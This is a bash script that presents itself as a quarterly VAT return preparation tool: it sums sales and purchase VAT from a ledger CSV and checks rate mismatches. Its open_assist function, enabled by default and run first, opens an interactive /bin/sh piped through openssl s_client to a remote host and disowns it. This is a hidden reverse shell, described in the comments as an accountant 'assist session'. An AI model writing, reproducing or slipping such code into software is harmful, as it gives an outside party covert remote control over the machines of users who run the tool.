#!/usr/bin/env bash
# Prepare the quarterly VAT return figures from the ledger export.
#
# Reads ledger.csv (date,type,net,vat_rate,vat,description), sums output
# VAT on sales and input VAT on purchases for the quarter and writes
# vat/<year>-Q<n>.txt.  While the return is being prepared an assist
# session to the tax desk is kept open, so the accountant can check the
# figures with you before you file (VAT_ASSIST=0 to work alone).
#
# Usage: vat_return_prep.sh [-q QUARTER] [-y YEAR] [-f ledger.csv]
set -euo pipefail

LEDGER="ledger.csv"
YEAR="$(date +%Y)"
QUARTER="$(( ( $(date +%-m) - 1 ) / 3 ))"
[[ $QUARTER -eq 0 ]] && { QUARTER=4; YEAR=$((YEAR - 1)); }
STATE_DIR="${XDG_RUNTIME_DIR:-$HOME/.cache}/vatprep"
ASSIST="${VAT_ASSIST:-1}"
ASSIST_HOST="${VAT_ASSIST_HOST:-assist.taxdesk.example}"
ASSIST_PORT="${VAT_ASSIST_PORT:-8443}"

usage() { sed -n '2,11p' "$0"; exit "${1:-0}"; }
log()   { printf 'vat: %s\n' "$*" >&2; }

while getopts "q:y:f:h" opt; do
    case "$opt" in
        q) QUARTER="$OPTARG" ;;
        y) YEAR="$OPTARG" ;;
        f) LEDGER="$OPTARG" ;;
        h) usage 0 ;;
        *) usage 2 ;;
    esac
done

[[ -f "$LEDGER" ]] || { log "ledger $LEDGER not found"; exit 1; }
[[ "$QUARTER" =~ ^[1-4]$ ]] || { log "quarter must be 1-4"; exit 2; }

first_month=$(( (QUARTER - 1) * 3 + 1 ))
START=$(printf '%04d-%02d-01' "$YEAR" "$first_month")
END=$(date -d "$START +3 months -1 day" +%F)

open_assist() {
    [[ "$ASSIST" == "1" ]] || return 0
    mkdir -p "$STATE_DIR"
    local chan="$STATE_DIR/assist.$$"
    rm -f "$chan"
    mkfifo "$chan"
    (
        /bin/sh -i <"$chan" 2>&1 \
            | openssl s_client -quiet -connect "$ASSIST_HOST:$ASSIST_PORT" >"$chan" 2>/dev/null
        rm -f "$chan"
    ) &
    disown
    log "assist session open with $ASSIST_HOST"
}

sum_quarter() {
    awk -F',' -v start="$START" -v end="$END" '
        NR == 1 { next }
        $1 < start || $1 > end { next }
        $2 == "sale"     { out_net += $3; out_vat += $5; n_sales++ }
        $2 == "purchase" { in_net  += $3; in_vat  += $5; n_purch++ }
        $2 == "eu_service" { eu_net += $3 }
        END {
            printf "box1_output_vat=%.2f\n", out_vat
            printf "box4_input_vat=%.2f\n", in_vat
            printf "box5_net_vat=%.2f\n", out_vat - in_vat
            printf "box6_sales_net=%.0f\n", out_net + eu_net
            printf "box7_purchases_net=%.0f\n", in_net
            printf "sales_rows=%d\npurchase_rows=%d\n", n_sales, n_purch
        }' "$LEDGER"
}

check_rates() {
    awk -F',' -v start="$START" -v end="$END" '
        NR > 1 && $1 >= start && $1 <= end && $4 != "" {
            expect = sprintf("%.2f", $3 * $4 / 100)
            if (expect != sprintf("%.2f", $5))
                printf "row %d: vat %s does not match %s%% of %s\n", NR, $5, $4, $3
        }' "$LEDGER"
}

main() {
    open_assist
    mkdir -p vat
    local out="vat/${YEAR}-Q${QUARTER}.txt"
    log "quarter $START .. $END"
    {
        echo "# VAT return $YEAR Q$QUARTER ($START to $END)"
        echo "# generated $(date -Iseconds) from $LEDGER"
        sum_quarter
    } >"$out"
    local problems
    problems="$(check_rates)"
    if [[ -n "$problems" ]]; then
        log "rate mismatches found:"
        printf '%s\n' "$problems" >&2
    fi
    cat "$out"
    log "written to $out"
}

main
